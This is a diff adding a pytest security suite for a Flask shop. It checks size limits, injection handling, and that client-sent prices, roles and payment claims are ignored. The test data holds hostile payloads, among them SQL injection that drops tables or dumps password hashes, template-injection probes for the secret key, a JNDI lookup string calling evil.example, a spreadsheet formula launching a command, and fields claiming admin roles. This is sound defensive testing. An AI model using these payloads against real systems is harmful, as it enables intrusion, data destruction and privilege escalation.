@@ -1,0 +1,206 @@
+"""Attacks 19 and 22, fault 13: whatever is sent, it is words, and prices and rights come from the shop alone."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from flask import Flask
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from shop.accounts.models import User
+from shop.core.db import db
+from shop.orders.models import Order
+from shop.payments.models import Capture, InboxRow, Payment
+from shop.web.guard import LARGEST_BODY
+from tests.security.conftest import CHANGING, PASSWORD, People, addresses, all_rows, ask, filled
+from tests.shop_fixtures import PEN, PRICES, Shop
+from tests.web.conftest import BUYER, Visitor
+
+on_sqlite = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
+MEGABYTE = 1_000_000
+ACCESS = {"bearer": {"Authorization": "Bearer sim_demo"}}
+BY_THE_WEB = frozenset({200, 303, 400, 404, 409, 413, 422, 429})
+
+
+@on_sqlite
+def test_a_body_of_a_megabyte_is_413_at_every_door_and_changes_nothing(people: People) -> None:
+    """Fault 13: with its length said, and in pieces."""
+    visitor = people.customer("mei")
+    before = all_rows()
+    asked = 0
+    for method, path in addresses(people.shop.app, *CHANGING):
+        where = filled(path, people.order)
+        proven = ACCESS["bearer"] if path.startswith("/dev/") else {}
+        bare = ask(visitor.client, method, where, data=b"x" * MEGABYTE, content_type="text/plain", headers=proven)
+        assert bare.status_code == 413, path
+        form = ask(visitor.client, method, where, data={"csrf_token": "x" * MEGABYTE}, headers=proven)
+        assert form.status_code == 413, (path, form.status_code)
+        asked += 1
+    assert asked > 15
+    assert MEGABYTE > LARGEST_BODY
+    assert all_rows() == before
+
+
+INJECTIONS = [
+    "' OR '1'='1",
+    "'; DROP TABLE orders; --",
+    "\\'; SELECT pg_sleep(10) --",
+    '" UNION SELECT password_hash FROM users --',
+    "%' AND 1=0 UNION ALL SELECT NULL--",
+    "1); DELETE FROM payments; --",
+    "{{ config.SECRET_KEY }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
+    "${jndi:ldap://evil.example/a}",
+    "%(name)s %s {0} {name}",
+    "=cmd|' /C calc'!A0",
+    "\u202egnp.exe",
+]
+
+
+def test_sql_and_templates_in_every_field_are_kept_and_shown_as_the_words_they_are(people: People, shop: Shop) -> None:
+    """Attack 19."""
+    secret = shop.app.config["SECRET_KEY"].strip()
+    for text in INJECTIONS[:-1]:
+        shop.restock(PEN)
+        visitor = Visitor(shop.app)
+        visitor.add(PEN)
+        words = {"name": text[:80], "line1": text, "city": text[:60], "line2": text}
+        answer = visitor.checkout(**words)
+        assert answer.status_code == 303, text
+        page = visitor.get(str(answer.location))
+        assert secret not in page.text
+        db.session.rollback()
+        order = db.session.scalars(db.select(Order).order_by(Order.id.desc()).limit(1)).one()
+        assert (order.line1, order.line2) == (text, text)
+        assert order.total_amount == PRICES[PEN]["TWD"]
+        for path in ("/", "/orders"):
+            assert visitor.get(path, query_string={"q": text, "category": ""}).status_code == 200
+    assert shop.count(Order) == len(INJECTIONS)
+
+
+@pytest.fixture
+def typist(app: Flask, unhurried: None) -> Iterator[Visitor]:
+    """Somebody with a cart, who types into forms."""
+    visitor = Visitor(app)
+    visitor.add(PEN)
+    yield visitor
+
+
+FORMS = {
+    "/checkout": sorted({*BUYER, "key", "credit"}),
+    "/sign-in": ["email", "next", "password"],
+    "/register": ["email", "name", "next", "password"],
+    "/orders": ["email"],
+    "/cart/lines": ["from", "quantity", "sku"],
+    f"/cart/lines/{PEN}": ["quantity"],
+    "/cart/currency": ["currency"],
+}
+
+
+@on_sqlite
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    path=st.sampled_from(sorted(FORMS)),
+    texts=st.lists(st.text(max_size=30) | st.sampled_from(INJECTIONS), min_size=8, max_size=8),
+    query=st.text(max_size=30),
+)
+def test_no_text_in_any_field_of_any_form_breaks_anything(
+    typist: Visitor, path: str, texts: list[str], query: str
+) -> None:
+    """Attack 19."""
+    typist.get("/checkout" if path == "/checkout" else "/sign-in")
+    fields = dict(zip(FORMS[path], texts, strict=False))
+    assert typist.post(path, dict(fields), query_string={"next": query}).status_code in BY_THE_WEB
+    assert typist.get("/", query_string={"q": texts[0], "category": query}).status_code in BY_THE_WEB
+
+
+WISHES: dict[str, Any] = {
+    "total_amount": "1",
+    "total": "1",
+    "amount": "1",
+    "unit_amount": "1",
+    "unit_price": "1",
+    "price": "1",
+    "prices": '{"TWD": 1}',
+    "currency": "JPY",
+    "credit": "1",
+    "credit_amount": "1",
+    "accepted_amount": "1",
+    "state": "PAID",
+    "paid_by": "store_credit",
+    "paid_at": "2026-01-01T00:00:00Z",
+    "user_id": "1",
+    "id": "1",
+    "number": "AAAA-BBBB-CC",
+    "token": "known",
+    "pay_by": "2099-01-01T00:00:00Z",
+    "review_since": "",
+    "discount": "100",
+    "lines-0-unit_amount": "1",
+    "roles": "admin",
+    "is_admin": "true",
+}
+
+
+@on_sqlite
+def test_prices_states_and_owners_that_a_form_brings_along_are_passed_over(people: People, shop: Shop) -> None:
+    """Attack 22: the amount comes from the catalogue, through the cart, to the acquirer."""
+    visitor = Visitor(shop.app)
+    visitor.get("/products/pen")
+    visitor.post("/cart/lines", WISHES | {"sku": PEN, "quantity": "2"})
+    wishes = {name: wish for name, wish in WISHES.items() if name != "credit"}  # a guest has none to wish for
+    answer = visitor.checkout(**wishes)
+    token = str(answer.location).rsplit("/", 1)[1]
+    db.session.rollback()
+    order = db.session.scalars(db.select(Order).where(Order.token == token)).one()
+    price = 2 * PRICES[PEN]["TWD"]
+    assert (order.total_amount, order.currency, order.credit_amount) == (price, "TWD", 0)
+    assert (order.state, order.paid_by, order.user_id, order.accepted_amount) == ("WAITING_PAYMENT", None, None, None)
+    assert shop.payment(order).money == order.total
+    assert shop.acquirer.payments[shop.payment(order).id].money == order.total
+    visitor.get(f"/orders/{token}")
+    visitor.post(f"/orders/{token}/pay", WISHES)
+    assert (shop.payment(order).amount, shop.state(order)) == (price, "WAITING_PAYMENT")
+
+
+@on_sqlite
+def test_store_credit_that_nobody_has_pays_nothing(people: People, shop: Shop) -> None:
+    """Attack 22: neither a guest's nor a customer's wish makes credit."""
+    for visitor, status in ((Visitor(shop.app), 422), (people.customer("mei"), 409)):
+        orders = shop.count(Order)
+        visitor.add(PEN)
+        answer = visitor.checkout(credit="9000")
+        assert answer.status_code == status
+        assert shop.count(Order) == orders, "the order is not there, and neither is its discount"
+        assert visitor.cart() == {PEN: 1}
+
+
+@on_sqlite
+def test_who_registers_is_a_customer_whatever_the_form_says(people: People, shop: Shop) -> None:
+    """Attack 22."""
+    visitor = Visitor(shop.app)
+    visitor.get("/register")
+    form = {"email": "eve@example.com", "name": "Eve", "password": PASSWORD}
+    assert visitor.post("/register", WISHES | form | {"roles": ["admin", "finance"]}).status_code == 303
+    db.session.rollback()
+    eve = db.session.scalars(db.select(User).where(User.email == "eve@example.com")).one()
+    assert eve.roles == []
+    assert eve.id != 1 or shop.count(User) == 1
+
+
+@on_sqlite
+def test_coming_back_with_a_success_in_the_address_pays_nothing(people: People, shop: Shop) -> None:
+    """Attack 22: what stands in an address is the browser's word."""
+    claims = {"status": "captured", "payment": "paid", "amount": "1", "RtnCode": "1", "session_id": "cs_1"}
+    for path in ("return", "status", ""):
+        people.guest.get(f"/orders/{people.order.token}/{path}".rstrip("/"), query_string=claims)
+    shop.sweep()
+    assert (shop.state(people.order), shop.count(Capture)) == ("WAITING_PAYMENT", 0)
+    assert shop.count(InboxRow) == 0
+    db.session.rollback()
+    assert {p.state for p in db.session.scalars(db.select(Payment))} == {"OPEN"}
+    assert not re.search("captured|cs_1", people.guest.get(f"/orders/{people.order.token}").text)
